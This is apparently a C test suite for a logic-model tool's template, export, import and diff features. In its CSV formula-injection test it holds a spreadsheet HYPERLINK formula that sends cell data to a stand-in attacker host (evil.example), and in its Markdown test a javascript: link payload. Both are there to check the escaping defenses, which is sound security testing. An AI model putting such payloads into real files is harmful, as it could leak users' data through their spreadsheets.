/* Authoring and interop: templates, table export and import with their round trip, and semantic diffs. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "base/alloc.h"
#include "common.h"

static const char *const bundled[] = {
	"models/carers-act.xml", "models/columns-strands.xml", "models/wws-partnership.xml",
	TEST_DATA "export/strands-1.1.xml", /* a step in several strands is one step again */
};

/* Loads `len` bytes of model text, failing the test if they do not load. */
static rc_model *load_text(const char *name, const char *text, size_t len)
{
	rc_model *m = NULL;
	rc_error err = { 0 };

	if (rc_model_load_memory(&m, test_context(), name, text, len, &err) != 0)
		TEST_FAIL("%s does not load: %s:%u:%u: %s", name, err.file, err.line, err.column, err.message);
	return m;
}

static rc_findings *check(const rc_model *m)
{
	rc_check_options opts = { 0 };
	rc_findings *f = NULL;
	rc_error err = { 0 };

	opts.evidence = test_evidence_base();
	CU_ASSERT_FATAL(rc_check_run(&f, m, &opts, &err) == 0);
	return f;
}

static rc_confidence *rate(const rc_model *m)
{
	rc_confidence *c = NULL;
	rc_error err = { 0 };

	CU_ASSERT_FATAL(rc_confidence_new(&c, m, &err) == 0);
	return c;
}

/* --- templates --- */

static void test_templates_check_clean(void)
{
	size_t i, len;

	CU_ASSERT_EQUAL(rc_template_count(), 3);
	for (i = 0; i < rc_template_count(); i++) {
		const char *name = rc_template_name(i);
		const char *text = rc_template_text(name, &len);
		rc_model *m = text ? load_text(name, text, len) : NULL;
		rc_findings *f;

		CU_ASSERT_PTR_NOT_NULL_FATAL(m);
		f = check(m);
		if (rc_findings_count_severity(f, RC_SEVERITY_ERROR) != 0)
			TEST_FAIL("template %s has %zu errors", name, rc_findings_count_severity(f, RC_SEVERITY_ERROR));
		CU_ASSERT(strstr(text, "xsi:schemaLocation=\"urn:rchain:model:1 rchain-model.xsd\"") != NULL);
		rc_findings_free(&f);
		rc_model_free(&m);
	}
	CU_ASSERT_PTR_NULL(rc_template_text("nonsense", &len));
	CU_ASSERT_PTR_NULL(rc_template_name(3));
}

static void test_templates_shapes(void)
{
	size_t len, level, count;
	const char *text = rc_template_text("blank", &len);
	rc_model *m = load_text("blank", text, len);

	for (level = 0; level < RC_LEVEL_COUNT; level++) {
		rc_model_level_steps(m, (rc_level)level, &count);
		CU_ASSERT_EQUAL(count, 1);
	}
	rc_model_free(&m);
	text = rc_template_text("columns", &len);
	m = load_text("columns", text, len);
	CU_ASSERT_EQUAL(rc_model_step_link_count(m), 0);
	CU_ASSERT(rc_model_link_count(m) > 0);
	rc_model_free(&m);
}

/* --- export --- */

/* Appends `m` through the export back-end `format` of the registry to `out`, rated when `f` is given; its status. */
static int export_to(rc_buffer *out, const char *format, const rc_model *m, const rc_findings *f, rc_error *err)
{
	rc_confidence *c = f ? rate(m) : NULL;
	rc_render_input view = { .model = m, .findings = f, .confidence = c };
	rc_output_input in = { .view = &view };
	int rc;

	CU_ASSERT_PTR_NOT_NULL_FATAL(rc_output_find("export", format));
	rc = rc_output_find("export", format)->write(rc_buffer_sink, out, &in, err);
	rc_confidence_free(&c);
	return rc;
}

static void export_golden(const char *model, const char *format, const char *golden)
{
	rc_model *m = test_load(model);
	rc_findings *f = check(m);
	rc_buffer out = { 0 };
	rc_error err = { 0 };

	CU_ASSERT(export_to(&out, format, m, f, &err) == 0);
	if (!test_golden(golden, out.data, out.len))
		TEST_FAIL("%s export of %s differs from %s", format, model, golden);
	rc_buffer_free(&out);
	rc_findings_free(&f);
	rc_model_free(&m);
}

static void test_export_goldens(void)
{
	export_golden("models/columns-strands.xml", "csv", TEST_GOLDEN "csv/columns-strands.csv");
	export_golden("models/columns-strands.xml", "markdown", TEST_GOLDEN "markdown/columns-strands.md");
	export_golden("models/columns-strands.xml", "kumu", TEST_GOLDEN "kumu/columns-strands.json");
	export_golden(TEST_DATA "export/awkward.xml", "csv", TEST_GOLDEN "csv/awkward.csv");
	export_golden(TEST_DATA "export/awkward.xml", "markdown", TEST_GOLDEN "markdown/awkward.md");
	export_golden(TEST_DATA "export/awkward.xml", "kumu", TEST_GOLDEN "kumu/awkward.json");
	export_golden(TEST_DATA "export/formulas.xml", "csv", TEST_GOLDEN "csv/formulas.csv");
	export_golden(TEST_DATA "export/formulas.xml", "markdown", TEST_GOLDEN "markdown/formulas.md");
	export_golden(TEST_DATA "export/strands-1.1.xml", "csv", TEST_GOLDEN "csv/strands-1.1.csv");
	export_golden(TEST_DATA "export/strands-1.1.xml", "markdown", TEST_GOLDEN "markdown/strands-1.1.md");
	export_golden(TEST_DATA "export/strands-1.1.xml", "kumu", TEST_GOLDEN "kumu/strands-1.1.json");
	CU_ASSERT_PTR_NULL(rc_output_find("export", "xlsx"));
}

/* --- import --- */

/* Imports `csv`, expecting success; the model text (caller frees), or NULL. */
static char *import_text(const char *name, const char *csv, size_t *len)
{
	rc_buffer out = { 0 };
	rc_error err = { 0 };

	if (rc_import_csv_memory(&out, name, csv, strlen(csv), &err) != 0) {
		TEST_FAIL("import of %s failed: %s:%u:%u: %s", name, err.file, err.line, err.column, err.message);
		rc_buffer_free(&out);
		return NULL;
	}
	*len = out.len;
	return out.data;
}

/* Exports `path` as CSV, imports the table and exports the model again: the two tables must be the same bytes. */
static void round_trip(const char *path)
{
	rc_model *m = test_load(path), *again;
	rc_buffer first = { 0 }, second = { 0 };
	rc_error err = { 0 };
	char *model;
	size_t len;

	CU_ASSERT_FATAL(export_to(&first, "csv", m, NULL, &err) == 0);
	model = import_text("table.csv", first.data, &len);
	CU_ASSERT_PTR_NOT_NULL_FATAL(model);
	again = load_text("imported.xml", model, len);
	CU_ASSERT_PTR_NOT_NULL_FATAL(again);
	CU_ASSERT_EQUAL(rc_model_step_count(again), rc_model_step_count(m));
	CU_ASSERT_EQUAL(rc_model_step_link_count(again), 0);
	CU_ASSERT(export_to(&second, "csv", again, NULL, &err) == 0);
	if (first.len != second.len || memcmp(first.data, second.data, first.len) != 0)
		TEST_FAIL("export -> import -> export of %s is not byte-stable", path);
	rc_buffer_free(&first);
	rc_buffer_free(&second);
	rc_model_free(&again);
	rc_model_free(&m);
	rc_free(model);
}

static void test_round_trip(void)
{
	size_t i;

	for (i = 0; i < sizeof(bundled) / sizeof(bundled[0]); i++)
		round_trip(bundled[i]);
	round_trip(TEST_DATA "export/formulas.xml");
	round_trip(TEST_DATA "export/delete-char.xml");
}

/* No CSV cell starts with what a spreadsheet runs as a formula; import gives the titles back exactly. */
static void test_formula_cells(void)
{
	static const char *const titles[] = {
		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
		"=1+1",
		"+44 helpline",
		"-10% waiting",
		"@SUM(A1:A9)",
		"'=already quoted",
		"''@twice",
		"'tis the season",
		"Cost = benefit - 1",
	};
	rc_model *m = test_load(TEST_DATA "export/formulas.xml"), *again;
	rc_buffer table = { 0 };
	rc_error err = { 0 };
	const char *cell;
	char *model;
	size_t i, len, cells = 0;
	int quoted = 0;

	CU_ASSERT_FATAL(export_to(&table, "csv", m, NULL, &err) == 0);
	/* The first character of every cell, past its opening quote: cells start after a comma or CRLF outside quotes.
	 */
	for (cell = table.data; *cell; cell++) {
		if (*cell == '"')
			quoted = !quoted;
		if (!quoted && (cell == table.data || *cell == ',' || (*cell == '\n' && cell[-1] == '\r'))) {
			const char *text = cell + (cell != table.data);

			text += *text == '"';
			if (*text && strchr("=+-@\t", *text))
				TEST_FAIL("a cell starts with a formula character: %.40s", text);
			cells++;
		}
	}
	CU_ASSERT_EQUAL(cells, 4 * 8 + 1);
	model = import_text("formulas.csv", table.data, &len);
	CU_ASSERT_PTR_NOT_NULL_FATAL(model);
	again = load_text("imported.xml", model, len);
	CU_ASSERT_PTR_NOT_NULL_FATAL(again);
	for (i = 0; i < sizeof(titles) / sizeof(titles[0]); i++)
		if (strcmp(rc_model_step(again, i)->title, titles[i]) != 0)
			TEST_FAIL("step %zu came back as '%s', not '%s'", i, rc_model_step(again, i)->title, titles[i]);
	CU_ASSERT_STRING_EQUAL(rc_model_strand(again, 0)->name, "=1+2");
	CU_ASSERT_STRING_EQUAL(rc_model_strand(again, 1)->name, "'quoted strand");
	rc_buffer_free(&table);
	rc_model_free(&again);
	rc_model_free(&m);
	rc_free(model);
}

/* Markdown cells form no link, image or HTML tag. */
static void test_markdown_links(void)
{
	rc_model *m = test_load(TEST_DATA "export/formulas.xml");
	rc_buffer md = { 0 };
	rc_error err = { 0 };

	CU_ASSERT_FATAL(export_to(&md, "markdown", m, NULL, &err) == 0);
	CU_ASSERT_PTR_NULL(strstr(md.data, "](javascript:"));
	CU_ASSERT_PTR_NULL(strstr(md.data, "]("));
	CU_ASSERT_PTR_NULL(strstr(md.data, "!["));
	CU_ASSERT_PTR_NULL(strstr(md.data, "<img"));
	CU_ASSERT_PTR_NOT_NULL(strstr(md.data, "&#91;x&#93;(javascript:alert(6))"));
	rc_buffer_free(&md);
	rc_model_free(&m);
}

/* Common headings map to levels; several lines of a cell are several steps; ids are generated. */
static void test_import_headings(void)
{
	static const char csv[] =
	        "\xEF\xBB\xBFWorkstream,INPUTS,Outputs,Reach,Short-term outcomes,Medium-term,"
	        "Long-term outcomes\r\n"
	        "Health,Funding,\"Clinics run\nLeaflets printed\",Families,Know <when> & the GP's hours,"
	        "Go early,\"Better health, \"\"sooner\"\"\"\r\n"
	        ",,,,,,\r\n"
	        ",Staff,,,,,\r\n";
	static const rc_level want[] = { RC_LEVEL_INPUT,     RC_LEVEL_ACTIVITY, RC_LEVEL_ACTIVITY, RC_LEVEL_ENGAGEMENT,
		                         RC_LEVEL_KNOWLEDGE, RC_LEVEL_PRACTICE, RC_LEVEL_OUTCOME,  RC_LEVEL_INPUT };
	size_t len, i;
	char *model = import_text("health plan.csv", csv, &len);
	rc_model *m = model ? load_text("imported.xml", model, len) : NULL;

	CU_ASSERT_PTR_NOT_NULL_FATAL(m);
	CU_ASSERT_STRING_EQUAL(rc_model_id(m), "health-plan");
	CU_ASSERT_STRING_EQUAL(rc_model_title(m), "Imported from health plan.csv");
	CU_ASSERT_EQUAL(rc_model_strand_count(m), 1);
	CU_ASSERT_EQUAL_FATAL(rc_model_step_count(m), 8);
	for (i = 0; i < 8; i++)
		CU_ASSERT_EQUAL(rc_model_step(m, i)->level, want[i]);
	CU_ASSERT_STRING_EQUAL(rc_model_step(m, 1)->id, "activity.1");
	CU_ASSERT_STRING_EQUAL(rc_model_step(m, 2)->title, "Leaflets printed");
	CU_ASSERT_STRING_EQUAL(rc_model_step(m, 6)->title, "Better health, \"sooner\"");
	/* Markup in a cell is escaped text in the model, and loads back as written. */
	CU_ASSERT_PTR_NOT_NULL(strstr(model, "<title>Know &lt;when&gt; &amp; the GP&#39;s hours</title>"));
	CU_ASSERT_STRING_EQUAL(rc_model_step(m, 4)->title, "Know <when> & the GP's hours");
	CU_ASSERT_STRING_EQUAL(rc_model_step(m, 7)->id, "input.2");
	CU_ASSERT_PTR_NULL(rc_model_step(m, 7)->strand);
	/* Column links join the consecutive levels that hold steps: reaction has none. */
	CU_ASSERT_EQUAL(rc_model_link_count(m), 5);
	CU_ASSERT_EQUAL(rc_model_link(m, 2)->from_level, RC_LEVEL_ENGAGEMENT);
	CU_ASSERT_EQUAL(rc_model_link(m, 2)->to_level, RC_LEVEL_KNOWLEDGE);
	rc_model_free(&m);
	rc_free(model);
}

/*
 * A box repeated at one level in the rows of several strands is one step in
 * those strands (format 1.1); repeated within one strand, or outside every
 * strand, it stays several steps, and a table with no shared box stays format 1.
 */
static void test_import_shared_steps(void)
{
	static const char csv[] = "Strand,Activities,Outcomes\n"
	                          "Housing,Build homes,\"Stable homes\nStable homes\"\n"
	                          "Jobs,Train people,\"Stable homes\nMore jobs\"\n"
	                          "Health,Train people,\n"
	                          ",Train people,More jobs\n"
	                          ",Train people,\n";
	size_t len;
	char *model = import_text("shared.csv", csv, &len);
	rc_model *m = model ? load_text("imported.xml", model, len) : NULL;
	char *plain = import_text("plain.csv", "Strand,Activities\nA,Build\nB,Grow\n,Build\n", &len);

	CU_ASSERT_PTR_NOT_NULL_FATAL(m);
	CU_ASSERT_STRING_EQUAL(rc_model_version(m), "1.1");
	CU_ASSERT_PTR_NOT_NULL(strstr(model,
	                              "<step id=\"activity.2\" level=\"activity\" strand=\"strand.2 strand.3\">\n"
	                              "    <title>Train people</title>"));
	CU_ASSERT_PTR_NOT_NULL(strstr(model, "<step id=\"outcome.1\" level=\"outcome\" strand=\"strand.1 strand.2\">"));
	CU_ASSERT_PTR_NOT_NULL(strstr(model, "<step id=\"outcome.2\" level=\"outcome\" strand=\"strand.1\">"));
	/* Build homes; Train people shared, and twice in no strand; Stable homes twice in Housing; More jobs twice. */
	CU_ASSERT_EQUAL(rc_model_step_count(m), 8);
	CU_ASSERT_PTR_NOT_NULL_FATAL(plain);
	CU_ASSERT_PTR_NOT_NULL(strstr(plain, "version=\"1\">"));
	rc_model_free(&m);
	rc_free(model);
	rc_free(plain);
}

/* A level's own name, in any case, is a heading for that level. */
static void test_import_level_names(void)
{
	static const char csv[] = "Input,ACTIVITY,Engagement,reaction,Knowledge,Practice,Outcome\na,b,c,d,e,f,g\n";
	size_t len, i;
	char *model = import_text("levels.csv", csv, &len);
	rc_model *m = model ? load_text("imported.xml", model, len) : NULL;

	CU_ASSERT_PTR_NOT_NULL_FATAL(m);
	CU_ASSERT_EQUAL_FATAL(rc_model_step_count(m), RC_LEVEL_COUNT);
	for (i = 0; i < RC_LEVEL_COUNT; i++)
		CU_ASSERT_EQUAL(rc_model_step(m, i)->level, (rc_level)i);
	rc_model_free(&m);
	rc_free(model);
}

static void import_error(const char *csv, size_t len, const char *want)
{
	rc_buffer out = { 0 };
	rc_error err = { 0 };
	char line[2200];

	CU_ASSERT_EQUAL(rc_import_csv_memory(&out, "t.csv", csv, len, &err), RC_EINVALID);
	rc_error_format(&err, line, sizeof(line));
	if (strcmp(line, want) != 0)
		TEST_FAIL("got '%s', expected '%s'", line, want);
	CU_ASSERT_EQUAL(out.len, 0);
	rc_buffer_free(&out);
}

#define IMPORT_ERROR(csv, want) import_error(csv, sizeof(csv) - 1, want)

static void test_import_errors(void)
{
	char huge[4200 + 16];

	IMPORT_ERROR("", "t.csv:1:1: error: no header row: the table is empty");
	IMPORT_ERROR("Inputs,Goals\n",
	             "t.csv:1:8: error: unknown column heading 'Goals': name a level (such as Inputs, Activities, "
	             "Outputs, Short-term outcomes, Final outcomes) or Strand");
	IMPORT_ERROR("Strand,Theme\n", "t.csv:1:8: error: a second strand column");
	IMPORT_ERROR("Strand\n", "t.csv:1:1: error: the header row names no level");
	IMPORT_ERROR("Inputs,Outputs\nA,B,C\n", "t.csv:2:5: error: a row of 3 fields, but the header row has 2");
	IMPORT_ERROR("Inputs,Outputs\nA\n", "t.csv:2:1: error: a row of 1 fields, but the header row has 2");
	IMPORT_ERROR("Inputs,Outputs\nA,\"B\n", "t.csv:2:3: error: a quoted field is not closed (a quote is missing)");
	IMPORT_ERROR("Inputs,Outputs\nA,\"B\"C\n",
	             "t.csv:2:6: error: text after the closing quote of a field (double quotes inside quotes)");
	IMPORT_ERROR("Inputs,Outputs\nA,B\"C\n",
	             "t.csv:2:4: error: a quote inside an unquoted field (quote the whole field and double the quote)");
	IMPORT_ERROR("Inputs\n\xC3\xA9t\xE9\n", "t.csv:2:3: error: invalid UTF-8 (save the table as CSV UTF-8)");
	IMPORT_ERROR("Inputs\nA\x01\n", "t.csv:2:2: error: a control character, which a model cannot hold");
	IMPORT_ERROR("Inputs\nA\rB\n", "t.csv:2:2: error: a carriage return without a line feed");
	IMPORT_ERROR("Inputs\n\"A,\nB\xE2\x80\x8F\"\n",
	             "t.csv:3:2: error: a bidirectional control character (U+200F), which can show text in another "
	             "order than it is stored; remove it");
	memcpy(huge, "Inputs\n", 7);
	memset(huge + 7, 'x', 4097);
	import_error(huge, 7 + 4097, "t.csv:2:1: error: a text of more than 4096 characters");
}

/* Every allocation of an import may fail: it then fails cleanly, leaking nothing (valgrind checks). */
static void test_import_out_of_memory(void)
{
	static const char csv[] = "Strand,Inputs,Activities\r\nA,Staff,\"Meet\nPlan\"\r\nB,Money,Train\r\n";
	rc_buffer out = { 0 };
	rc_error err = { 0 };
	long n, needed;
	int rc;

	rc_alloc_fail_after(1000000);
	CU_ASSERT_FATAL(rc_import_csv_memory(&out, "t.csv", csv, sizeof(csv) - 1, &err) == 0);
	needed = rc_alloc_fail_after(-1);
	rc_buffer_free(&out);
	for (n = 0; n < needed; n++) {
		rc_alloc_fail_after(n);
		rc = rc_import_csv_memory(&out, "t.csv", csv, sizeof(csv) - 1, &err);
		rc_alloc_fail_after(-1);
		CU_ASSERT_EQUAL(rc, RC_ENOMEM);
		rc_buffer_free(&out);
	}
}

/* --- diff --- */

struct pair {
	rc_model *old_model, *new_model;
	rc_findings *old_findings, *new_findings;
	rc_confidence *old_confidence, *new_confidence;
	rc_diff *diff;
};

static void open_pair(struct pair *p, const char *old_path, const char *new_path)
{
	rc_error err = { 0 };

	p->old_model = test_load(old_path);
	p->new_model = test_load(new_path);
	CU_ASSERT_FATAL(p->old_model && p->new_model);
	p->old_findings = check(p->old_model);
	p->new_findings = check(p->new_model);
	p->old_confidence = rate(p->old_model);
	p->new_confidence = rate(p->new_model);
	CU_ASSERT_FATAL(rc_diff_new(&p->diff, p->old_model, p->old_findings, p->old_confidence, p->new_model,
	                            p->new_findings, p->new_confidence, &err) == 0);
}

static void close_pair(struct pair *p)
{
	rc_diff_free(&p->diff);
	CU_ASSERT_PTR_NULL(p->diff);
	rc_confidence_free(&p->old_confidence);
	rc_confidence_free(&p->new_confidence);
	rc_findings_free(&p->old_findings);
	rc_findings_free(&p->new_findings);
	rc_model_free(&p->old_model);
	rc_model_free(&p->new_model);
}

/* Appends the diff through the diff back-end `format` of the registry to `out`; its status. */
static int diff_to(rc_buffer *out, const rc_diff *d, const char *format, rc_error *err)
{
	rc_output_input in = { .diff = d };

	CU_ASSERT_PTR_NOT_NULL_FATAL(rc_output_find("diff", format));
	return rc_output_find("diff", format)->write(rc_buffer_sink, out, &in, err);
}

/* The fields of format 1.1 are compared like the others. */
static void test_diff_format_11(void)
{
	struct pair p;
	rc_buffer text = { 0 };
	rc_error err = { 0 };

	open_pair(&p, TEST_DATA "diff/old-1.1.xml", TEST_DATA "diff/new-1.1.xml");
	CU_ASSERT(diff_to(&text, p.diff, "text", &err) == 0);
	CU_ASSERT(test_golden(TEST_GOLDEN "diff/diff-1.1.txt", text.data, text.len));
	rc_buffer_free(&text);
	close_pair(&p);
}

static void test_diff_goldens(void)
{
	struct pair p;
	rc_buffer text = { 0 }, json = { 0 };
	rc_error err = { 0 };

	open_pair(&p, TEST_DATA "diff/old.xml", TEST_DATA "diff/new.xml");
	CU_ASSERT_FALSE(rc_diff_equal(p.diff));
	CU_ASSERT(diff_to(&text, p.diff, "text", &err) == 0);
	CU_ASSERT(test_golden(TEST_GOLDEN "diff/diff.txt", text.data, text.len));
	CU_ASSERT(diff_to(&json, p.diff, "json", &err) == 0);
	CU_ASSERT(test_golden(TEST_GOLDEN "diff/diff.json", json.data, json.len));
	CU_ASSERT_PTR_NULL(rc_output_find("diff", "yaml"));
	rc_buffer_free(&text);
	rc_buffer_free(&json);
	close_pair(&p);
}

/* Whether the story was revised: evidence added alone is not a revision; a reassessed assumption is. */
static void test_diff_story(void)
{
	struct pair p;
	const rc_story_revision *r;
	const rc_doubtful_on_path *d;

	open_pair(&p, TEST_DATA "diff/story-old.xml", TEST_DATA "diff/story-evidence.xml");
	r = rc_diff_revision(p.diff);
	CU_ASSERT_EQUAL(r->verdict, RC_REVISION_NOT_REVISED);
	CU_ASSERT_EQUAL(r->evidence_added, 1);
	CU_ASSERT_EQUAL(r->statuses_changed + r->assumptions_added + r->assumptions_removed, 0);
	CU_ASSERT_EQUAL_FATAL(rc_diff_doubtful_count(p.diff), 1);
	d = rc_diff_doubtful(p.diff, 0);
	CU_ASSERT_STRING_EQUAL(d->outcome, "work");
	CU_ASSERT_STRING_EQUAL(d->assumption, "a.transfer");
	CU_ASSERT(d->by_id && d->still);
	CU_ASSERT_EQUAL(d->loc.line, 24);
	close_pair(&p);

	open_pair(&p, TEST_DATA "diff/story-old.xml", TEST_DATA "diff/story-revised.xml");
	r = rc_diff_revision(p.diff);
	CU_ASSERT_EQUAL(r->verdict, RC_REVISION_REVISED);
	CU_ASSERT_EQUAL(r->statuses_changed, 1);
	CU_ASSERT_EQUAL(rc_diff_doubtful_count(p.diff), 0);
	close_pair(&p);

	open_pair(&p, TEST_DATA "diff/old.xml", TEST_DATA "diff/old.xml");
	CU_ASSERT_EQUAL(rc_diff_revision(p.diff)->verdict, RC_REVISION_UNCHANGED);
	close_pair(&p);
}

/* The changed fields of one change, with both values; the locations in both files. */
static void test_diff_changed_fields(void)
{
	struct pair p;
	size_t i;
	const rc_change *aims = NULL;

	open_pair(&p, TEST_DATA "diff/old.xml", TEST_DATA "diff/new.xml");
	for (i = 0; i < rc_diff_change_count(p.diff); i++)
		if (strcmp(rc_diff_change(p.diff, i)->key, "aims") == 0)
			aims = rc_diff_change(p.diff, i);
	CU_ASSERT_PTR_NOT_NULL_FATAL(aims);
	CU_ASSERT_EQUAL(aims->kind, RC_CHANGE_CHANGED);
	CU_ASSERT_STRING_EQUAL(aims->element, "step");
	CU_ASSERT_EQUAL_FATAL(aims->field_count, 2);
	CU_ASSERT_STRING_EQUAL(aims->fields[0].name, "confidence");
	CU_ASSERT_PTR_NULL(aims->fields[0].old_value);
	CU_ASSERT_STRING_EQUAL(aims->fields[0].new_value, "high");
	CU_ASSERT_STRING_EQUAL(aims->fields[1].old_value, "Develop shared aims");
	CU_ASSERT_STRING_EQUAL(aims->old_loc.file, TEST_DATA "diff/old.xml");
	CU_ASSERT_STRING_EQUAL(aims->new_loc.file, TEST_DATA "diff/new.xml");
	CU_ASSERT_EQUAL(aims->new_loc.line, 14);
	close_pair(&p);
}

static void test_diff_equal(void)
{
	struct pair p;
	rc_buffer text = { 0 };
	rc_error err = { 0 };
	size_t i;

	for (i = 0; i < sizeof(bundled) / sizeof(bundled[0]); i++) {
		open_pair(&p, bundled[i], bundled[i]);
		CU_ASSERT(rc_diff_equal(p.diff));
		CU_ASSERT_EQUAL(rc_diff_change_count(p.diff), 0);
		CU_ASSERT_EQUAL(rc_diff_finding_count(p.diff), 0);
		CU_ASSERT_EQUAL(rc_diff_outcome_count(p.diff), rc_confidence_story_count(p.new_confidence));
		CU_ASSERT(diff_to(&text, p.diff, "text", &err) == 0);
		CU_ASSERT_EQUAL(text.len, 0);
		close_pair(&p);
	}
	rc_buffer_free(&text);
}

/* Every allocation of a diff may fail: it then fails cleanly, leaking nothing (valgrind checks). */
static void test_diff_out_of_memory(void)
{
	struct pair p;
	rc_diff *d = NULL;
	rc_error err = { 0 };
	long n, needed;
	int rc;

	open_pair(&p, TEST_DATA "diff/old.xml", TEST_DATA "diff/new.xml");
	rc_alloc_fail_after(-1);
	rc_diff_free(&p.diff);
	rc_alloc_fail_after(1000000);
	CU_ASSERT_FATAL(rc_diff_new(&p.diff, p.old_model, p.old_findings, p.old_confidence, p.new_model, p.new_findings,
	                            p.new_confidence, &err) == 0);
	needed = rc_alloc_fail_after(-1);
	for (n = 0; n < needed; n++) {
		rc_alloc_fail_after(n);
		rc = rc_diff_new(&d, p.old_model, p.old_findings, p.old_confidence, p.new_model, p.new_findings,
		                 p.new_confidence, &err);
		rc_alloc_fail_after(-1);
		CU_ASSERT_EQUAL(rc, RC_ENOMEM);
		CU_ASSERT_PTR_NULL(d);
	}
	close_pair(&p);
}

static CU_TestInfo tests[] = {
	{ "every template loads and checks without errors", test_templates_check_clean },
	{ "templates: seven levels, columns only", test_templates_shapes },
	{ "export goldens: CSV, Markdown and Kumu", test_export_goldens },
	{ "export -> import -> export is byte-stable for every bundled model", test_round_trip },
	{ "export: no CSV cell starts a formula, and import undoes the guard", test_formula_cells },
	{ "export: Markdown forms no link, image or HTML", test_markdown_links },
	{ "import: headings, cells of several lines, strands, ids", test_import_headings },
	{ "import: a level's own name is a heading", test_import_level_names },
	{ "import: bad tables give one located error", test_import_errors },
	{ "import: allocation failures", test_import_out_of_memory },
	{ "diff goldens: text and JSON", test_diff_goldens },
	{ "diff compares the fields of format 1.1", test_diff_format_11 },
	{ "import: a box shared by several strands is one step (format 1.1)", test_import_shared_steps },
	{ "diff: changed fields and both locations", test_diff_changed_fields },
	{ "diff: whether the story was revised", test_diff_story },
	{ "diff of a model with itself is empty", test_diff_equal },
	{ "diff: allocation failures", test_diff_out_of_memory },
	CU_TEST_INFO_NULL,
};

int main(void)
{
	return test_main("interop", tests);
}
